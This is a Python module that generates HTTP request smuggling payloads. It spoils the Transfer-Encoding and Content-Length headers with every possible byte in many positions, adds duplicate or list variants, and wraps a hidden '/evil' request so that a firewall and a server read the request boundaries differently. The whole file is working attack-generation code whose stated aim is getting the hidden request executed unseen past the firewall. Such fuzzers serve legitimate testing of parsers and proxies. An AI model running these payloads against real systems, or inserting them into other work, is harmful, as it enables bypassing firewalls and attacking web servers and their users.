# SPDX-License-Identifier: GPL-2.0-or-later
"""Payloads by rule: the two fields that frame a request, spoiled by one byte in every place, and what hides behind.

Four bodies, by who must overlook what so that /evil is executed unseen:

	over    the firewall goes by Content-Length, the server by the spoiled coding
	under   the firewall goes by the spoiled coding, the server by Content-Length
	length  the firewall goes by the spoiled length, the server sees none
	veil    the server goes by the spoiled length, the firewall sees none and a request with a harmless field
"""
from payloads import Payload

NAMES = {"coding": (b"Transfer-Encoding", ("over", "under")), "length": (b"Content-Length", ("length", "veil"))}
WORDS = (b"identity", b"gzip", b"deflate", b"cow", b"chunke", b"chunkedd", b"x-chunked", b"trailers", b"*", b"0")


def lengths(texts):
    evil, veil = texts["evil"], texts["veil"]
    size = b"%x\r\n" % len(evil)
    return {"length": b"%d" % len(evil), "veil": b"%d" % len(veil)}, {
        "over": (b"Content-Length: %d\r\n" % len(b"0\r\n\r\n" + evil), b"0\r\n\r\n" + evil),
        "under": (b"Content-Length: %d\r\n" % len(size), size + evil + b"\r\n0\r\n\r\n"),
        "length": (b"", evil),
        "veil": (b"", veil + evil),
    }


def places(name, value, byte):
    """Each way to put one byte into a field line: (place, line)."""
    line = name + b": " + value
    yield "first", byte + line + b"\r\n"
    yield "name-middle", name[:7] + byte + name[7:] + b": " + value + b"\r\n"
    yield "name-dash", line.replace(b"-", byte, 1) + b"\r\n"
    yield "colon-before", name + byte + b": " + value + b"\r\n"
    yield "colon-instead", name + byte + value + b"\r\n"
    yield "colon-behind", name + b":" + byte + value + b"\r\n"
    yield "value-before", name + b": " + byte + value + b"\r\n"
    yield "value-middle", name + b": " + value[:1] + byte + value[1:] + b"\r\n"
    yield "value-behind", line + byte + b"\r\n"
    yield "value-behind-blank", line + b" " + byte + b"\r\n"
    yield "cr-instead", line + byte + b"\n"
    yield "lf-instead", line + b"\r" + byte
    yield "cr-before", line + b"\r" + byte + b"\r\n"
    yield "field-before", b"X: y" + byte + line + b"\r\n"
    yield "field-before-lf", b"X: y" + byte + b"\n" + line + b"\r\n"
    yield "field-before-cr", b"X: y\r" + byte + line + b"\r\n"


def spoiled(name, value):
    for byte in range(256):
        for place, line in places(name, value, bytes([byte])):
            yield f"{place}-{byte:02x}", line


def combined(name, value):
    """Two of it, and lists."""
    line = name + b": " + value + b"\r\n"
    for index, word in enumerate(WORDS):
        yield f"list-before-{index}", name + b": " + word + b", " + value + b"\r\n"
        yield f"list-behind-{index}", name + b": " + value + b", " + word + b"\r\n"
        yield f"twice-before-{index}", name + b": " + word + b"\r\n" + line
        yield f"twice-behind-{index}", line + name + b": " + word + b"\r\n"
    for index, other in enumerate((name.lower(), name.upper(), name.replace(b"-", b"_"), name.replace(b"-", b""),
                                   b"X-" + name, name + b"-X", b"\xef\xbb\xbf" + name)):
        yield f"name-{index}", other + b": " + value + b"\r\n"
        yield f"name-twice-{index}", other + b": " + value + b"\r\n" + line
    for index, end in enumerate((b"\r\n ", b"\r\n\t", b"\n", b"\r", b"\r\r\n", b"\n\r\n", b" \r\n", b";\r\n", b",\r\n", b"\r\n\r")):
        yield f"end-{index}", name + b": " + value + end
        yield f"fold-{index}", name + b":" + end + value + b"\r\n"


def every(texts):
    """All of them. `texts`: the bytes of evil and veil."""
    values, bodies = lengths(texts)
    for kind, (name, shapes) in NAMES.items():
        for shape in shapes:
            value = values.get(shape, b"chunked")
            more, body = bodies[shape]
            for make in (combined, spoiled):
                for label, line in make(name, value):
                    for order in ("", "-last") if more and make is combined else ("",):
                        fields = more + line if order else line + more
                        head = b"POST /ok/1 HTTP/1.1\r\nHost: a\r\n" + fields + b"\r\n"
                        yield Payload(f"{kind}-{shape}-{label}{order}", [], None, [head + body])
